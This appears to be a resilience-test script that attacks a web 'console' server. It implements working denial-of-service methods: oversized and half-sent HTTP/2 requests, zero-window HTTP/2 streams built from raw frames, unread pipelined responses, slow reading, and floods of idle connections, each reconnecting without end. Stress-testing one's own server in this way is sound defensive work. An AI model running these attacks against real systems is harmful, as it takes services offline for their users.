// Attacks on a console, without a session. Each continues until its process is killed, and
// reconnects whenever the console closes a connection.

import http2 from 'node:http2';
import net from 'node:net';
import tls from 'node:tls';

const [, program, name, url] = process.argv;
const MANY = 3000;

export const ATTACKS = {
  // 4 connections, 100 forms of a mebibyte on each, half of it sent.
  'forms': () => connections(4, open => http2Requests(open, 100, { ':method': 'POST', ':path': '/oauth/callback', 'content-type': 'application/x-www-form-urlencoded', 'content-length': 1 << 20 }, Buffer.alloc(1 << 19, 'a'))),
  // Headers of 10 KB: more than the console reads.
  'headers': () => connections(130, open => http2Requests(open, 100, { ':method': 'POST', ':path': '/oauth/callback', 'x-long': 'a'.repeat(10_000) }, Buffer.from('a'))),
  // Headers of 7 KB: as much as the console reads.
  'headers-7k': () => connections(130, open => http2Requests(open, 100, { ':method': 'POST', ':path': '/oauth/callback', 'x-long': 'a'.repeat(7_000) }, Buffer.from('a'))),
  // Requests whose responses may not be sent, on connections that answer pings.
  'window-0': () => connections(MANY, withoutWindow),
  // Requests one after the other, whose responses are not read.
  'no-reading': () => connections(MANY, withoutReading),
  // Responses of which 10 bytes are read every two seconds.
  'slow-reading': () => connections(MANY, withSlowReading),
  // Idle connections, opened as fast as possible.
  'silence': () => connections(3 * MANY, open => net.connect(address()).on('connect', open)),
};

function address() {
  const { hostname: host, port } = new URL(url);
  return { host, port: Number(port) };
}

/** Keeps `count` connections open; `connect` opens one and calls its argument when it is open. */
function connections(count, connect) {
  const opening = { now: 0, open: 0 };
  const more = () => {
    while (opening.now < 64 && opening.open + opening.now < count) {
      opening.now += 1;
      let opened = false;
      const connection = connect(() => {
        if (opened) return;
        opened = true;
        opening.now -= 1;
        opening.open += 1;
        more();
      });
      connection.on('error', () => {}).on('close', () => {
        if (opened) opening.open -= 1;
        else opening.now -= 1;
        opened = true;
        setTimeout(more, 20);
      });
    }
  };
  more();
}

function http2Requests(open, count, headers, body) {
  const session = http2.connect(url, { rejectUnauthorized: false });
  session.on('connect', () => {
    open();
    const ask = () => {
      // Refused on a connection that the console has asked to end.
      if (session.destroyed || session.closed) return;
      const stream = session.request(headers).on('error', () => {}).on('close', () => setTimeout(ask, 5000));
      stream.resume().write(body);
    };
    for (let n = 0; n < count; n += 1) ask();
  });
  return session;
}

/**
 * RFC 9113: a window of 0 for each stream, then requests for `/`, with entries of the static table.
 */
function withoutWindow(open) {
  const socket = tls.connect({ ...address(), rejectUnauthorized: false, ALPNProtocols: ['h2'] });
  const frame = (type, flags, stream, payload) => {
    const head = Buffer.alloc(9);
    head.writeUIntBE(payload.length, 0, 3);
    head.writeUInt8(type, 3);
    head.writeUInt8(flags, 4);
    head.writeUInt32BE(stream, 5);
    return Buffer.concat([head, payload]);
  };
  socket.on('secureConnect', () => {
    open();
    const settings = frame(4, 0, 0, Buffer.from([0, 4, 0, 0, 0, 0]));
    const host = new URL(url).host;
    const ask = Buffer.concat([Buffer.from([0x83 - 1, 0x87, 0x84, 0x41, host.length]), Buffer.from(host), Buffer.from([0x90])]);
    const requests = Array.from({ length: 30 }, (_, n) => frame(1, 5, 2 * n + 1, ask));
    socket.write(Buffer.concat([Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'), settings, ...requests]));
  });
  let data = Buffer.alloc(0);
  socket.on('data', more => {
    data = Buffer.concat([data, more]);
    while (data.length >= 9 && data.length >= 9 + data.readUIntBE(0, 3)) {
      const length = data.readUIntBE(0, 3);
      if (data[3] === 6 && data[4] === 0) socket.write(frame(6, 1, 0, data.subarray(9, 9 + length)));
      data = data.subarray(9 + length);
    }
  });
  return socket;
}

function withoutReading(open) {
  const socket = tls.connect({ ...address(), rejectUnauthorized: false, ALPNProtocols: ['http/1.1'] });
  socket.on('secureConnect', () => {
    open();
    socket.pause();
    socket.write(`GET /signed-out HTTP/1.1\r\nhost: ${new URL(url).host}\r\naccept-encoding: gzip\r\n\r\n`.repeat(200));
  });
  return socket;
}

function withSlowReading(open) {
  const socket = tls.connect({ ...address(), rejectUnauthorized: false, ALPNProtocols: ['http/1.1'], highWaterMark: 10 });
  let reading;
  socket.on('secureConnect', () => {
    open();
    // Read in paused mode, so that what is not read here stays at the console once the buffers in
    // between are full.
    socket.on('readable', () => {});
    reading = setInterval(() => socket.read(10), 2000);
    socket.write(`GET /signed-out HTTP/1.1\r\nhost: ${new URL(url).host}\r\naccept-encoding: gzip\r\n\r\n`.repeat(20));
  });
  return socket.on('close', () => clearInterval(reading));
}

if (program === new URL(import.meta.url).pathname) {
  process.on('uncaughtException', fault => console.error(`    attacker: ${fault.message}`));
  ATTACKS[name]();
}
